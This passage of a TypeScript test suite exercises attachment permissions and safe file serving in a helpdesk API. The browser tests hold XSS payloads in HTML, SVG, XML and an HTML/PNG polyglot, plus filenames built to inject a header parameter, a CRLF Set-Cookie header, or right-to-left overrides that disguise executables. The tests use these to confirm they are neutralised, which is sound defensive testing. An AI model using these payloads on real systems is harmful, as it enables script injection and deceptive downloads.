    aLink.pathname = aLink.pathname.replace(/\/attachments\/\d+\//, `/attachments/${bUp.body.upload.attachment.id}/`);
    expect((await t.request({ method: "GET", path: aLink.pathname + aLink.search, host: b.host, headers: { authorization: basic(owner(b)) } })).status).toBe(404);
  });

  it("an end user never sees files of a ticket opened with an internal note, nor attaches to another person's request", async () => {
    const a = await buildTenant(t, "akeu");
    const customer = await buildUser(t, a, "end-user", "Customer");
    const stranger = await buildUser(t, a, "end-user", "Stranger");
    const note = await upload(t, a, owner(a), "internal.txt", Buffer.from("staff only"));
    const c = await a.api("POST", "/api/v2/tickets.json", { ticket: { subject: "x", requester_id: customer.id, comment: { body: "note first", public: false, uploads: [note.body.upload.token] } } });
    expect(c.status, c.text).toBe(201);
    const session = await signInByMail(t, smtp, a, customer.email);
    expect((await asSession(t, a, session, "GET", `/api/v2/attachments/${note.body.upload.attachment.id}.json`)).status).toBe(404);
    // After a public reply the ticket is the customer's to see; the note's file still is not.
    await a.api("PUT", `/api/v2/tickets/${c.body.ticket.id}.json`, { ticket: { comment: { body: "public reply" } } });
    expect((await asSession(t, a, session, "GET", `/api/v2/requests/${c.body.ticket.id}/comments.json`)).status).toBe(200);
    expect((await asSession(t, a, session, "GET", `/api/v2/attachments/${note.body.upload.attachment.id}.json`)).status).toBe(404);
    // The customer cannot redact the public file, nor put files on a stranger's request.
    const strangers = await a.api("POST", "/api/v2/tickets.json", { ticket: { subject: "y", requester_id: stranger.id, comment: { body: "hi" } } });
    const mine = await t.request({ method: "POST", path: "/api/v2/uploads.json?filename=mine.txt", host: a.host, rawBody: Buffer.from("mine"), headers: { cookie: session.cookie, "x-csrf-token": session.csrf, "content-type": "text/plain" } });
    expect(mine.status, mine.text).toBe(201);
    const onStrangers = await asSession(t, a, session, "PUT", `/api/v2/requests/${strangers.body.ticket.id}.json`, { request: { comment: { body: "x", uploads: [mine.body.upload.token] } } });
    expect(onStrangers.status).toBe(404);
    // The refused write left the token usable for the customer's own request.
    const own = await asSession(t, a, session, "PUT", `/api/v2/requests/${c.body.ticket.id}.json`, { request: { comment: { body: "mine", uploads: [mine.body.upload.token, mine.body.upload.token] } } });
    expect(own.status, own.text).toBe(200);
    const files = (await a.api("GET", `/api/v2/tickets/${c.body.ticket.id}/comments.json`)).body.comments.flatMap((x: { attachments: Array<{ file_name: string }> }) => x.attachments.map((f) => f.file_name));
    expect(files).toEqual(["internal.txt", "mine.txt"]);
  });

  it("a light agent's files go on internal notes only; a refused public reply leaves the token usable", async () => {
    const a = await buildTenant(t, "aklight");
    const light = await buildUser(t, a, "light-agent");
    const asLight = { email: light.email, token: light.token! };
    const c = await a.api("POST", "/api/v2/tickets.json", { ticket: { subject: "x", comment: { body: "x" } } });
    const up = await upload(t, a, asLight, "notes.txt", Buffer.from("light agent's notes"));
    expect(up.status).toBe(201);
    const pub = await a.api("PUT", `/api/v2/tickets/${c.body.ticket.id}.json`, { ticket: { comment: { body: "public", uploads: [up.body.upload.token] } } }, asLight);
    expect(pub.status).toBe(403);
    const job = await a.api("PUT", `/api/v2/tickets/update_many.json?ids=${c.body.ticket.id}`, { ticket: { comment: { body: "public", uploads: [up.body.upload.token] } } }, asLight);
    expect(job.status).toBe(403);
    const note = await a.api("PUT", `/api/v2/tickets/${c.body.ticket.id}.json`, { ticket: { comment: { body: "note", public: false, uploads: [up.body.upload.token] } } }, asLight);
    expect(note.status, note.text).toBe(200);
  });
});

describe("held up: what a browser is given", () => {
  it("serves HTML, SVG, XML and an HTML/PNG polyglot as downloads that render nothing, with names quoted safely", async () => {
    const a = await buildTenant(t, "akbrowser");
    const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");
    const cases: Array<[string, Buffer, string]> = [
      ["page.html", Buffer.from("<!doctype html><script>alert(document.domain)</script>"), "text/plain; charset=utf-8"],
      ["image.svg", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), "text/plain; charset=utf-8"],
      ["feed.xml", Buffer.from('<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'), "application/octet-stream"],
      ["poly.html", Buffer.concat([PNG, Buffer.from("<script>alert(1)</script>")]), "image/png"],
      ['a"; filename=evil.bat; x=".txt', Buffer.from("quoted"), "text/plain; charset=utf-8"],
    ];
    for (const [name, bytes, served] of cases) {
      const up = await upload(t, a, owner(a), name, bytes, { headers: { "content-type": "text/html" } });
      expect(up.status, `${name}: ${up.text}`).toBe(201);
      await a.api("POST", "/api/v2/tickets.json", { ticket: { subject: "x", comment: { body: "x", uploads: [up.body.upload.token] } } });
      const link = (await a.api("GET", `/api/v2/attachments/${up.body.upload.attachment.id}.json`)).body.attachment.content_url as string;
      const got = await fetchAs(t, a, owner(a), link);
      expect(got.status).toBe(200);
      expect(got.headers["content-type"], name).toBe(served);
      expect(got.headers["content-disposition"]).toMatch(/^attachment;/);
      expect(got.headers["x-content-type-options"]).toBe("nosniff");
      expect(got.headers["content-security-policy"]).toBe("default-src 'none'; sandbox");
      // A quote in the name stays inside the quoted string (escaped): it cannot add a parameter.
      if (name.startsWith('a"')) expect(got.headers["content-disposition"]).toBe('attachment; filename="a\\"; filename=evil.bat; x=\\".txt"');
    }
    // Control characters (CR, LF, NUL, tab), and direction overrides that show "evil\u202Etxt.html"
    // as "evilhtml.txt", are refused before a byte is read.
    for (const bad of ["a\r\nSet-Cookie: x=y.txt", "a\u0000.txt", "a\t.txt", "evil\u202Etxt.html", "invoice\u2067fdp.exe"]) {
      expect((await upload(t, a, owner(a), bad, Buffer.from("x"))).status).toBe(422);
    }
  });

  it("reveals nothing through a link to a file that is not the caller's: the same 404 as a missing one", async () => {
    const a = await buildTenant(t, "ak404");
    const agent = await buildUser(t, a, "agent");
    const asAgent = { email: agent.email, token: agent.token! };
    const up = await upload(t, a, owner(a), "mine.txt", Buffer.from("owner's, unattached"));
    // A link made for the owner to the owner's unattached upload, used by the agent; a missing id.
    const forged = await t.db.tenant(a.tenantId, async (tx) => {
      const row = await tx.db.selectFrom("attachments").select(["id", "nice_id"]).where("nice_id", "=", up.body.upload.attachment.id).executeTakeFirstOrThrow();
      const user = await tx.db.selectFrom("users").select("id").where("role", "=", "agent").executeTakeFirstOrThrow();
      return downloadUrl(makeContext({ tx, sealer: await t.keyring.sealerFor(tx), actor: { kind: "system" }, now: () => new Date(clock), apiBase: `http://${a.host}/api/v2` }), row, user.id);
    });
    const theirs = await fetchAs(t, a, asAgent, forged);
    const missing = await fetchAs(t, a, asAgent, forged.replace(/\/attachments\/\d+\//, "/attachments/999999/"));
    expect(theirs.status).toBe(404);
    expect(missing.status).toBe(404);
    expect(theirs.text).toBe(missing.text);
    expect((await a.api("GET", `/api/v2/attachments/${up.body.upload.attachment.id}.json`, undefined, asAgent)).text).toBe((await a.api("GET", "/api/v2/attachments/999999.json", undefined, asAgent)).text);
  });
});
